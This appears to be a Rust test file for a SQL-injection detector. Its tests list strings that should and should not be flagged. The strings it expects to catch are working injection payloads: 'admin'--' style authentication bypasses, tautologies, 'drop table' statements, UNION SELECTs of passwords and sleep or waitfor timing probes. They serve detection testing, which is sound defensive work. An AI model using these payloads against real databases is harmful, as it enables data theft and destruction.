fn terminator_and_comment_probes() {
    for v in [";--", ";#", ";/*", " ; -- ", ");--", "));#", ";--;", "; /*"] {
        assert!(hit(v), "missed probe {v:?}");
    }
    for v in [
        "--",
        "----",
        "#",
        "-- signature --",
        ";-)",
        ";-/",
        "/* not a comment */",
        ";",
        ";;",
        ":--",
        "--;",
        "#;",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn system_variable_probes() {
    for v in [
        "@@J0BLQ",
        "@@version",
        "@@xyzzy",
        "@@global.sql_mode",
        " @@Q7ZK2 ",
    ] {
        assert!(hit(v), "missed probe {v:?}");
    }
    for v in [
        "@@",
        "@@ab",
        "@@1abc",
        "me@@example.com",
        "ping @@team please",
        "@john",
        "@@ hello",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn arithmetic_identity_probes() {
    for v in ["1*1", "3*1", "1*7", "7+0", "0+7", "42 * 1", "1 * 42"] {
        assert!(hit(v), "missed probe {v:?}");
    }
    for v in [
        "800*600",
        "5 * 7",
        "1920x1080",
        "2-1",
        "1+1",
        "1-0",
        "3-0",
        "5/1",
        "100/1",
        "3/4",
        "50/50",
        "24/7",
        "0-0",
        "0+0",
        "0-7",
        "1/2",
        "2*2",
        "12-1",
        "2024-01",
        "1-800-555-0100",
        "1*",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn machine_spelled_number_before_a_connective() {
    for v in [
        "1e1 OR 1",
        "2E0 or 1",
        "1e1 and 1",
        "7.0 OR 1",
        "3.00 or 5",
        "0x2 or 1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "2 or 3",
        "1.5 or 2",
        "2.5 and 3",
        "1e1 or 0",
        "10 or 1",
        "2 or 1",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// Round 39: the `admin'--` bypass after an ordinary field value with blanks (an address, a
/// full name): the value's last quote, glued to its text, closes the application's literal
/// and an empty comment cuts the query off. Prose with a dash pair goes on with words.
#[test]
fn closing_quote_then_comment_after_any_field_value() {
    for v in [
        "12 Main St'-- -",
        "12%20Main%20St%27--%20-",
        "John Smith'--",
        "Apt 4B' -- ",
        "Smith'#",
        "Mary Ann'  #",
        "O'Neil'/*",
        "D'Angelo Rossi'--+",
        "12 Main St\"-- -",
        "New York, NY 10001'--",
        "user.name@example.com'/**/",
    ] {
        assert_eq!(
            detect(v, Context::Param).map(|d| d.reason),
            Some("string-break+comment"),
            "{v:?}"
        );
    }
    for v in [
        "She's the best -- really",
        "I said 'hi' -- bye",
        "'Tis the season -- enjoy",
        "Rock 'n' roll -- classic",
        "it's 5 o'clock -- go home",
        "the Jones' -- our neighbours",
        "BAMBOO SOAP 1 '#",
        "He said 'yes'",
        "Main St' is closed",
        "Paris France'#comment",
        "12 Main St -- apt 4",
    ] {
        assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
    }
}

/// Round 39: paging clauses (MSSQL/Oracle/PostgreSQL `OFFSET … ROWS FETCH …`, MySQL and
/// SQLite `LIMIT … OFFSET …`) whose count or offset computes something.
#[test]
fn paging_clause_with_a_subquery_or_an_error() {
    for v in [
        "1 OFFSET 0 ROWS FETCH NEXT (SELECT 1/0) ROWS ONLY",
        "1 OFFSET (SELECT 1/0) ROWS",
        "0 OFFSET (SELECT CASE WHEN 1=1 THEN 1 ELSE 1/0 END) ROWS",
        "5 OFFSET 1/0",
        "1 FETCH NEXT (SELECT 1) ROWS ONLY",
        "10 OFFSET 0 ROWS FETCH FIRST (SELECT COUNT(*) FROM users) ROWS WITH TIES",
        "10 LIMIT 5 OFFSET (SELECT 1/0)",
        "10 LIMIT 1/0, 5",
        "OFFSET (SELECT 1/0) ROWS",
        "FETCH FIRST (SELECT 1/0) ROWS ONLY",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "fetch next page",
        "offset 10 rows",
        "skip the first 10 rows and fetch the next 5",
        "fetch first 10 rows only",
        "10 offset 1/2",
        "limit 1/0 errors",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// Round 39: look-alikes of SQL in prose and code, quiet in every engine (the grammar and
/// the model): prose after a boolean expression, propositional logic over one-letter
/// variables, a sentence quoted whole with quoted words joined by `or`, C compound
/// assignments.
#[test]
fn logic_prose_dialogue_and_compound_assignments_stay_quiet() {
    let d = crate::Detectors::default();
    for v in [
        "1 OR 1 = 1 in boolean algebra",
        "1 or 1=1 is a tautology",
        "1=1 as expected",
        "not (p and q) = (not p) or (not q)",
        "(p or q) and r = (p and r) or (q and r)",
        "not (a or b) = (not a) and (not b)",
        "p -> q = ~p | q",
        "\"She said 'yes' or 'no'\"",
        "\"He asked 'red' or 'blue' today\"",
        "'Is it \"tea\" or \"coffee\"?'",
        "x >>= 2; y <<= 1;",
        "n <<= 3; m >>= 1",
        "total += n; i -= 1;",
        "flags |= mask; bits &= ~0",
    ] {
        let r = d.check(crate::AttackKind::Sqli, v, Context::Param);
        assert!(r.is_none(), "flagged {v:?}: {r:?}");
    }
    for v in [
        "1 OR 1 = 1",
        "1 or 1=1 allow filtering",
        "1 or 1=1 in (1)",
        "\"x' or 'y'='y\"",
        "x' or 'y'='y",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "not (p and q) = (not p) or (not q)",
        "(a or b) and c",
        "p -> q",
    ] {
        assert!(crate::data_shape::propositional_logic(v), "not logic {v:?}");
    }
    for v in ["1 or 1=1", "x' or 'a", "admin or password", "p--q and r"] {
        assert!(!crate::data_shape::propositional_logic(v), "logic {v:?}");
    }
    for v in ["x >>= 2; y <<= 1;", "a += 1", "a_b *= -2;"] {
        assert!(crate::data_shape::compound_assignments(v), "not code {v:?}");
    }
    for v in [
        "x = 1; y = 2",
        "1; drop table t",
        "x += 'a'",
        "x >>= (select 1)",
    ] {
        assert!(!crate::data_shape::compound_assignments(v), "code {v:?}");
    }
}

/// [`quote_context_inert`] passes markup and prose, and refuses every value whose quote
/// context the grammar could read as a break-out (a keyword that opens a shape, a call, a
/// `;`, a truncating comment, a first word the grammar reads).
#[test]
fn quote_context_inert_cases() {
    for (v, q) in [
        (r#"<a class="reference internal" href="x.html">x</a>"#, b'"'),
        (r##"<a class="ref" href="#top">top</a>"##, b'"'),
        ("It's the user's guide", b'\''),
        ("Ich sagte\" Bob wäre müde, это «рейтинг»", b'"'),
        ("{\"name\": \"Пётр\", \"age\": 3}", b'"'),
        ("{\"пол\": 8552, \"возбуждение\": \"Dl\"}", b'"'),
        (r##"<li><a href="#buffer">x</a></li>"##, b'"'),
        ("BLUE BROWN' --INFANT -CHILD", b'\''),
    ] {
        assert!(quote_context_inert(v, q), "{v:?}");
    }
    for (v, q) in [
        ("x' union select 1 '", b'\''),
        ("x' or sleep(5) or '", b'\''),
        ("x'; drop table t; '", b'\''),
        ("x' #", b'\''),
        ("x' and 1=1 --", b'\''),
        ("x' goto a '", b'\''),
        ("x' on duplicate key update a='1", b'\''),
        ("x' n'y'", b'\''),
        ("x'' or 1=1 '", b'\''),
        ("x' 1 '", b'\''),
        ("x' a::text '", b'\''),
        ("x' a/**/b '", b'\''),
        ("x' a é\u{a0}union select 1 '", b'\''),
        ("x' a é1union select 1 '", b'\''),
        ("x'\u{a0}union select 1 '", b'\''),
        ("x' \u{fffd}goto a '", b'\''),
        ("BAMBOO SOAP 1 '#", b'\''),
        ("FOO BAR'# BLAH\n1 union select 1", b'\''),
        ("FOO'# BLAH", b'\''),
        ("a b'#> '{x}'", b'\''),
        ("a b' -- x", b'\''),
    ] {
        assert!(!quote_context_inert(v, q), "{v:?}");
    }
}

#[test]
fn stripped_spellings_are_the_words_stripped_keyword_reads() {
    let spellings: Vec<Vec<u8>> = super::stripped_spellings().collect();
    assert_eq!(spellings.len(), 38);
    for w in &spellings {
        let upper = w.to_ascii_uppercase();
        for word in [w.as_slice(), upper.as_slice()] {
            assert!(super::stripped_keyword(word).is_some(), "{word:?}");
            // (long enough for the packed search, short ones are always walked)
            let mut text = b"1' or 1=1 and then some more text to search ".to_vec();
            text.extend_from_slice(word);
            text.extend_from_slice(b" 1,2--");
            assert!(super::may_hold_stripped(&text), "{word:?}");
        }
    }
    // a value with none of them is settled by the search
    assert!(!super::may_hold_stripped(
        b"it's the user's union of selected rows, from where they were inserted"
    ));
}

/// A quoted phrase in a sentence is no statement: a literal of words after `DROP TABLE
/// name` is the sentence going on, and `NOT` after a call negates a test, never a word.
#[test]
fn sentences_around_statement_words_and_calls() {
    for v in [
        "He said \"drop table tennis\" was his favourite game; I laughed",
        "she wrote 'truncate table scraps' on the list, then left",
        "sleep(5) not working c++",
        "sleep(2) not enough for the page to load",
    ] {
        assert!(!hit(v), "{v:?}");
    }
    for v in [
        "x\" drop table users --",
        "x\"; drop table users; --",
        "x' drop table users '",
        "1 and sleep(5) not like 'a'",
        "sleep(5) not in (1)",
        "1 or sleep(5)",
    ] {
        assert!(hit(v), "{v:?}");
    }
}

/// An XML document's text nodes are values of their own, CDATA unwrapped and references
/// decoded; formatting markup around SQL words is prose.
#[test]
fn xml_text_nodes_are_judged_decoded() {
    for v in [
        "<storeId><![CDATA[1 UNION SELECT password FROM users]]></storeId>",
        "<stockCheck><productId>1</productId><storeId>1 &#x55;NION &#x53;ELECT 1</storeId></stockCheck>",
        "<?xml version=\"1.0\"?><login><user>admin'--</user></login>",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "<storeId>1</storeId>",
        "<p>select one of the options</p>",
        "<name>O'Reilly</name>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

/// The bare context's verdict: [`super::analyze_with`]'s run of it ([`super::judge_run`])
/// without the gate, so what [`super::bare_context_inert`] skips.
fn bare_verdict(v: &str) -> Option<&'static str> {
    let mut bufs = super::Scratch::default();
    super::judge_run(v, super::byte_classes(v), Start::Bare, true, &mut bufs)
}

fn bare_inert(v: &str) -> bool {
    super::bare_context_inert(v, super::byte_classes(v), &mut Vec::new())
}

/// [`super::bare_context_inert`] passes prose and markup, and refuses values whose bare
/// context the grammar could read (a shape keyword, a catalog, a strong call, a `;`).
#[test]
fn bare_context_inert_cases() {
    for v in [
        "The cache (or part of it) can't be cleared by the user's hook, it's said.",
        "<p class=\"note\">Don't use the (old) API for this, it's slow.</p>",
        "<a href=\"#top\">top</a> -- back to the start's page",
        "Python sleeps (quietly) in the \"corner\", it's fine",
        "Hello world, this is a long enough sentence to be searched for words.",
        "<p>Use &lt;code&gt; here; then &nbsp;&amp; go on; 5 more; 'x'</p>",
        "Mozart Requiem; K. 626; a long enough sentence to be searched.",
    ] {
        assert!(bare_inert(v), "{v:?}");
        assert_eq!(bare_verdict(v), None, "{v:?}");
    }
    for v in [
        "please sleep (5) now and then it's done, said the user",
        "please sleep\u{a0}(5) now and then it's done, said the user",
        "please sleep -- x\n(5) now and then it's done, said the user",
        "the users' union select of 'this' and that long enough sentence",
        "the users' 1union of 'this' and that long enough sentence here",
        "look at information_schema.tables for the user's long list",
        "hello there; drop table users -- it's a long enough sentence",
        "hello there;\n -- x\n drop table users, it's a long enough sentence",
        "hello there ;sp_who 'x' and more, it's a long enough sentence",
        "hello there; if 1=1 waitfor delay '0:0:5', a long enough sentence",
        "hello there a::b cast in it for a long enough sentence",
        "hello there a /* comment */ in it for a long enough sentence",
        "name asc, 'x' and the rest of a long enough sentence here",
        "1 or 1=1 and the rest of a long enough sentence, it's here",
    ] {
        assert!(!bare_inert(v), "{v:?}");
    }
}

/// Every word [`super::BARE_REFUSED_WORDS`] lists is a keyword that opens a shape, then a
/// catalog name, and every such keyword and catalog name is listed.
#[test]
fn bare_refused_words_are_the_shape_keywords_and_catalogs() {
    let (shape, catalogs) = super::BARE_REFUSED_WORDS.split_at(super::SHAPE_WORDS);
    for w in shape {
        let kw = lexer::keyword(w).expect(w);
        assert!(lexer::opens_shape(lexer::Kind::Kw(kw)), "{w}");
    }
    for (w, kw) in super::keywords::KEYWORDS {
        if lexer::opens_shape(lexer::Kind::Kw(kw)) {
            assert!(shape.iter().any(|s| s.as_bytes() == w), "{w:?}");
        }
    }
    for w in catalogs {
        assert!(super::keywords::is_system_catalog(w), "{w}");
    }
}

proptest::proptest! {
    #[test]
    fn bare_context_inert_passes_only_what_the_bare_context_passes(
        parts in proptest::collection::vec(
            proptest::sample::select(vec![
                "The", "cache", " ", "  ", "it's", "'", "\"", "(", ")", "sleep", "Sleep", "1",
                "union", "UNION", "select", "into", "case", "x", "a_b", "information_schema",
                "pg_sleep", ".", ",", "-", "--", "#", "\n", "/", "*", ":", ";", "=", "<", ">",
                "@", "$", "`", "[", "]", "\\", "\u{a0}", "é", "\u{fffd}", "0x", "1f", "N",
                "and", "or", "is", "asc", "goto", "user", "tables", "from", "where",
                "&nbsp;", "; ", "drop", "table", "do", "lock", "if", "While", "sp_who", "xp_",
                "exec", "waitfor", "delay", "'0:0:5'", "N'x'",
            ]),
            0..48,
        ),
        tail in "[ -~]{0,16}",
    ) {
        let v = parts.concat() + &tail;
        if bare_inert(&v) {
            proptest::prop_assert_eq!(bare_verdict(&v), None, "{:?}", v);
        }
    }
}

/// A quote context's verdict: [`super::judge_run`] lexing it (the `BACKSLASH` class, which
/// only a value with a backslash has, turns [`quote_context_inert`] off; in a value without
/// one the escapes change no string scan), so what the gate skips.
fn quote_verdict(v: &str, q: u8) -> Option<&'static str> {
    let mut bufs = super::Scratch::default();
    let classes = super::byte_classes(v) | super::BACKSLASH;
    super::judge_run(v, classes, Start::InQuote(q), true, &mut bufs)
}

proptest::proptest! {
    #[test]
    fn quote_context_inert_passes_only_what_the_quote_context_passes(
        parts in proptest::collection::vec(
            proptest::sample::select(vec![
                "The", "cache", " ", "  ", "it's", "'", "\"", "(", ")", "sleep", "1", "x",
                "union", "select", "into", "case", "a_b", "_x", "N", "n", "on", "goto", "is",
                ".", ",", "-", "--", "#", "#>", "\n", "/", "*", ":", ";", "=", "<", ">", "@",
                "$", "`", "[", "]", "\u{a0}", "é", "Пётр", "\u{fffd}", "\u{2028}", "0x",
                "1f", "and", "or", "from", "where", "sp_password",
            ]),
            0..40,
        ),
        tail in "[ -\\[\\]-~]{0,16}",
    ) {
        let v = parts.concat() + &tail;
        for q in [b'\'', b'"'] {
            if quote_context_inert(&v, q) {
                let expected = super::closed_then_cut(&v, q).then_some("string-break+comment");
                proptest::prop_assert_eq!(quote_verdict(&v, q), expected, "{:?} {}", v, q);
            }
        }
    }
}
